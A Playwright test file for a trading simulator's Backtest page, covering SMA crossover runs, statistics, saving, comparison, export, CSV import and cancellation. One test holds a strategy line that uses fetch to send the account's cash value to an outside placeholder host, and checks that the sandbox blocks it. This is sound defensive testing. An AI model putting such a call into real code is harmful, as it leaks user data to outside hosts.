import { readFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';

// The Backtest page in the built app: backtesting.py's SmaCross on the bundled GOOG sample in a backtest
// worker (its 66 trades, the statistics, the equity curve, the fills on the candles), a second run, both
// saved and found again after a reload, compared side by side and exported; a run cancelled while it
// starts; and the page at a phone's width.

test.describe.configure({ timeout: 120_000 });

async function openBacktest(page: Page): Promise<void> {
  await page.goto('/');
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Backtest' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Backtest' })).toBeVisible();
  await expect(page.getByTestId('bt-form')).toBeVisible();
}

async function smaCross(page: Page, fast: string, slow: string, short: boolean): Promise<void> {
  await page.selectOption('#bt-strategy', 'sma-cross');
  await page.fill('#bt-param-fast', fast);
  await page.fill('#bt-param-slow', slow);
  await page.locator('#bt-param-short').setChecked(short);
}

test('SMA crossover on GOOG: statistics, curve, marks, saved, reloaded, compared, exported', async ({ page }, info) => {
  await openBacktest(page);
  await expect(page.getByTestId('bt-no-runs')).toBeVisible({ timeout: 15_000 });

  // A rule across parameters is refused before anything runs.
  await smaCross(page, '40', '30', true);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.getByTestId('bt-form-err')).toContainText('fast average must be shorter');

  // backtesting.py's own test: SmaCross(10, 30), long and short, on GOOG: 66 trades.
  await smaCross(page, '10', '30', true);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.getByTestId('bt-status')).toContainText('Done: 66 trades over 2,148 bars, saved as run 1', { timeout: 30_000 });
  await expect(page.getByTestId('stat-trades')).toHaveText('66');
  const ret = (await page.getByTestId('stat-returnPct').textContent()) ?? '';
  expect(ret).toMatch(/^-?[\d.,]+ %$/);
  await expect(page.getByTestId('stat-sharpe')).not.toHaveText('—');
  await expect(page.getByTestId('bt-trades').locator('tbody tr')).toHaveCount(66);

  // The equity curve is drawn (uPlot's canvas, with a summary for screen readers), and the fills are on the candles.
  const equity = page.getByTestId('bt-equity-chart');
  await expect(equity).toHaveAttribute('aria-label', /Equity/);
  await expect(equity.locator('canvas')).toHaveCount(1);
  expect(await equity.locator('canvas').evaluate((c: HTMLCanvasElement) => c.width)).toBeGreaterThan(100);
  // Pointing at the curve reads out its date and equity in money.
  await equity.scrollIntoViewIfNeeded();
  const box = await equity.boundingBox();
  if (box === null) throw new Error('no equity chart');
  await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2, { steps: 5 });
  await expect(page.getByTestId('bt-equity-chart-readout')).toContainText(/UTC: \$[\d,]+\.\d\d/);
  const marked = Number(((await page.getByTestId('bt-markers').textContent()) ?? '').replace(/[^\d].*$/s, ''));
  // The first entry, then at each of the 65 reversals a close and a new entry (two fills), then the end-of-data exit.
  expect(marked).toBe(1 + 65 * 2 + 1);
  await expect(page.locator('.chart-candles canvas')).toHaveCount(1);

  // A figure's explanation, on focus, for a learner (and described to screen readers).
  const term = page.getByTestId('bt-stats').getByText('Sharpe Ratio', { exact: true });
  await term.focus();
  const tipId = await term.getAttribute('aria-describedby');
  await expect(page.locator(`#${tipId}`)).toContainText('Return per unit of risk');
  await expect(page.locator(`#${tipId}`)).toHaveCSS('opacity', '1');
  await page.screenshot({ path: info.outputPath('backtest-result.png'), fullPage: true });

  // A second run, long only.
  await smaCross(page, '5', '20', false);
  await page.fill('#bt-commission', '0.1');
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.getByTestId('bt-status')).toContainText('saved as run 2', { timeout: 30_000 });

  // Both are kept: after a reload, in the list, and one opens with its figures.
  await page.reload();
  await expect(page.getByTestId('bt-saved-1')).toBeVisible({ timeout: 15_000 });
  await expect(page.getByTestId('bt-saved-2')).toBeVisible();
  await expect(page.locator('#bt-param-slow')).toHaveValue('20');
  await page.getByRole('button', { name: 'Open run 1, Moving-average crossover' }).click();
  await expect(page.getByTestId('stat-trades')).toHaveText('66');
  await expect(page.getByTestId('bt-trades').locator('tbody tr')).toHaveCount(66);
  // Its inputs are back in the form (after the reload it held the defaults, slow 20), so Run gives it again.
  await expect(page.locator('#bt-param-slow')).toHaveValue('30');
  await expect(page.locator('#bt-from')).toHaveValue('2004-08-19');
  await expect(page.locator('#bt-to')).toHaveValue('2013-03-01');
  await page.getByRole('button', { name: 'Open run 2, Moving-average crossover' }).click();
  await expect(page.locator('#bt-commission')).toHaveValue('0.1');
  await expect(page.locator('#bt-param-slow')).toHaveValue('20');
  // A range wholly outside the data is refused before anything runs, with the data's span.
  await page.fill('#bt-from', '2015-01-01');
  await page.fill('#bt-to', '2016-01-01');
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.getByTestId('bt-from-err')).toHaveText('No bars between these dates: the data runs from 2004-08-19 to 2013-03-01.');
  await page.getByRole('button', { name: 'Open run 1, Moving-average crossover' }).click();
  await expect(page.locator('#bt-from')).toHaveValue('2004-08-19');

  // Compared side by side: a column each.
  await page.getByRole('checkbox', { name: 'Compare run 1, Moving-average crossover' }).check();
  await page.getByRole('checkbox', { name: 'Compare run 2, Moving-average crossover' }).check();
  await page.getByTestId('bt-compare').click();
  const compared = page.getByTestId('bt-comparison');
  await expect(compared.locator('thead th')).toHaveCount(3);
  await expect(compared.locator('thead th').nth(1)).toContainText('Run 1');
  await expect(compared.getByRole('row', { name: /# Trades/ }).locator('td')).toHaveText(['66', '57']);

  // Exports: the trades as CSV, the statistics as JSON.
  const [csv] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Trades of run 1, Moving-average crossover as CSV' }).click()]);
  expect(csv.suggestedFilename()).toBe('bourse-backtest-1-trades.csv');
  const lines = (await readFile((await csv.path())!, 'utf8')).trim().split('\r\n');
  expect(lines[0]).toMatch(/^entry time,exit time,size/);
  expect(lines).toHaveLength(67);
  const [json] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Statistics of run 1, Moving-average crossover as JSON' }).click()]);
  const doc = JSON.parse(await readFile((await json.path())!, 'utf8'));
  expect(doc.stats['# Trades']).toBe(66);

  // At a phone's width: nothing wider than the screen (the tables scroll in their boxes).
  await page.setViewportSize({ width: 360, height: 740 });
  await page.getByRole('button', { name: 'Open run 2, Moving-average crossover' }).click();
  await page.waitForTimeout(500);
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  expect(overflow).toBeLessThanOrEqual(0);
  await page.screenshot({ path: info.outputPath('backtest-360.png'), fullPage: true });
  // The same in screen-sized pieces, readable when looked at.
  const height = await page.evaluate(() => document.documentElement.scrollHeight);
  for (let y = 0, n = 1; y < height; y += 1200, n++) {
    await page.screenshot({ path: info.outputPath(`backtest-360-part${n}.png`), fullPage: true, clip: { x: 0, y, width: 360, height: Math.min(1200, height - y) } });
  }

  // The dark scheme, with a figure's explanation open.
  await page.emulateMedia({ colorScheme: 'dark' });
  await page.getByTestId('bt-stats').getByText('Max. Drawdown [%]', { exact: true }).focus();
  await page.screenshot({ path: info.outputPath('backtest-360-dark.png') });

  // Delete asks once more.
  await page.getByRole('button', { name: 'Delete run 2, Moving-average crossover' }).click();
  await page.getByRole('button', { name: 'Delete it' }).click();
  await expect(page.getByTestId('bt-saved-2')).toHaveCount(0);
  await expect(page.getByTestId('bt-saved-1')).toBeVisible();
});

/** Daily bars in a zigzag (so moving averages cross), as a CSV with the usual names. */
function zigzagCsv(days: number): string {
  const lines = ['Date,Open,High,Low,Close,Volume'];
  for (let i = 0; i < days; i++) {
    const c = 100 + 10 * Math.sin(i / 4);
    const d = new Date(Date.UTC(2021, 0, 4) + i * 86_400_000).toISOString().slice(0, 10);
    lines.push(`${d},${c.toFixed(2)},${(c + 1).toFixed(2)},${(c - 1).toFixed(2)},${c.toFixed(2)},1000`);
  }
  return lines.join('\n') + '\n';
}

test('a CSV with a bad line is refused with its number; a good one is listed, runs, and can be deleted', async ({ page }) => {
  await openBacktest(page);
  await page.getByText('Import a CSV of your own').click();
  const bad = zigzagCsv(20).split('\n');
  bad[4] = '2021-01-07,100,90,95,96,1000'; // line 5: high below low
  await page.setInputFiles('#bt-import-file', { name: 'bad.csv', mimeType: 'text/csv', buffer: Buffer.from(bad.join('\n')) });
  await page.getByRole('button', { name: 'Import', exact: true }).click();
  await expect(page.getByTestId('bt-import-status')).toContainText('Line 5', { timeout: 15_000 });
  await expect(page.locator('#bt-source option', { hasText: 'bad.csv' })).toHaveCount(0);

  await page.setInputFiles('#bt-import-file', { name: 'zigzag.csv', mimeType: 'text/csv', buffer: Buffer.from(zigzagCsv(120)) });
  await page.getByRole('button', { name: 'Import', exact: true }).click();
  await expect(page.getByTestId('bt-import-status')).toContainText('Imported 120 bars as "zigzag.csv"', { timeout: 15_000 });
  await expect(page.locator('#bt-source')).toHaveValue(/^s-/);
  await smaCross(page, '3', '8', false);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.getByTestId('bt-status')).toContainText('over 120 bars, saved as run 1', { timeout: 30_000 });
  expect(Number(await page.getByTestId('stat-trades').textContent())).toBeGreaterThan(3);
  await expect(page.getByTestId('bt-saved-1')).toContainText('zigzag.csv');

  await page.getByRole('button', { name: /Delete the series/ }).click();
  await expect(page.getByTestId('bt-status')).toContainText('zigzag.csv deleted');
  await expect(page.locator('#bt-source option', { hasText: 'zigzag.csv' })).toHaveCount(0);
  await expect(page.getByTestId('bt-saved-1')).toBeVisible(); // the run keeps its figures
});

test("this simulator's own candles are a source: a run over FUN's 1-minute bars", async ({ page }) => {
  // At 60× a simulated minute passes every second: a few closed candles in a few seconds.
  await page.goto('/#/settings');
  await page.getByRole('radio', { name: '60×' }).check();
  await page.waitForTimeout(6_000);
  await openBacktest(page);
  await page.selectOption('#bt-source', 'market:sim');
  await page.selectOption('#bt-market', 'FUN');
  await page.selectOption('#bt-market-tf', '1m');
  await expect(page.locator('#bt-source-note')).toContainText('FUN 1m');
  await smaCross(page, '2', '3', false);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.getByTestId('bt-status')).toContainText(/Done: \d+ trades? over \d+ bars, saved as run 1/, { timeout: 30_000 });
  await expect(page.getByTestId('bt-saved-1')).toContainText("FUN 1m — this simulator's candles");
});

test("your own code from the editor: backtested in the sandboxed worker, and a code that reaches for the network is stopped", async ({ page }) => {
  // A crossover written by hand: buys when the close crosses above its 20-bar average, sells when it crosses below.
  const code = [
    'return {',
    "  name: 'mine', title: 'My crossover', description: 'Close against its own average.',",
    "  params: { n: { type: 'integer', default: 20, min: 2, max: 200 } },",
    '  init(ctx) { return { avg: ctx.ind.sma(ctx.params.n) }; },',
    '  onBar(ctx) {',
    '    const avg = ctx.indicators.avg;',
    '    if (!avg.ready) return;',
    "    if (ctx.bar.close > avg.value && ctx.position.units === 0) ctx.buy({ reason: 'close above its average' });",
    "    else if (ctx.bar.close < avg.value && ctx.position.units > 0) ctx.close('close below its average');",
    '  },',
    '};',
  ].join('\n');
  await page.goto('/#/editor');
  const content = page.locator('.cm-content');
  await content.click();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(code);
  await page.fill('#strategy-name', 'e2e-mine');
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(page.getByTestId('editor-msg')).toHaveText('Saved e2e-mine.');

  await openBacktest(page);
  await page.selectOption('#bt-strategy', 'user:e2e-mine');
  await expect(page.getByTestId('bt-description')).toHaveText('Close against its own average.');
  await expect(page.locator('#bt-param-n')).toHaveValue('20');
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.getByTestId('bt-status')).toContainText(/Done: \d+ trades over 2,148 bars, saved as run 1/, { timeout: 30_000 });
  expect(Number(await page.getByTestId('stat-trades').textContent())).toBeGreaterThan(10);
  await expect(page.getByTestId('bt-saved-1')).toContainText('My crossover (yours)');

  // Code that reaches for the network finds nothing there: the run stops at that bar with the error.
  await page.goto('/#/editor');
  await content.click();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText("return {\n  name: 'net',\n  onBar(ctx) {\n    fetch('https://example.com/?cash=' + ctx.cash);\n  },\n};\n");
  await page.fill('#strategy-name', 'e2e-net');
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(page.getByTestId('editor-msg')).toHaveText('Saved e2e-net.');
  await openBacktest(page);
  await page.selectOption('#bt-strategy', 'user:e2e-net');
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.getByTestId('bt-result').getByRole('alert')).toContainText('fetch is not a function', { timeout: 30_000 });
});

test.describe('cancel', () => {
  // The service worker would serve the worker's script from its cache, out of the route's reach.
  test.use({ serviceWorkers: 'block' });

  test('a run is cancelled while its worker starts: nothing is saved, and the next run works', async ({ page, context }) => {
    // The backtest worker's script is held back for a while, so the run is still going when Cancel is pressed.
    let hold = true;
    await context.route(/backtest\.worker/, async (route) => {
      if (hold) await new Promise((r) => setTimeout(r, 4_000));
      await route.continue();
    });
    await openBacktest(page);
    await expect(page.getByTestId('bt-no-runs')).toBeVisible({ timeout: 15_000 });
    await smaCross(page, '10', '30', false);
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(page.getByTestId('bt-progress')).toBeVisible();
    await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeDisabled();
    await page.getByRole('button', { name: 'Cancel' }).click();
    await expect(page.getByTestId('bt-status')).toHaveText('Cancelled: nothing was saved.');
    await expect(page.getByTestId('bt-progress')).toHaveCount(0);
    await expect(page.getByTestId('bt-no-runs')).toBeVisible();

    hold = false;
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(page.getByTestId('bt-status')).toContainText('saved as run 1', { timeout: 30_000 });
  });
});
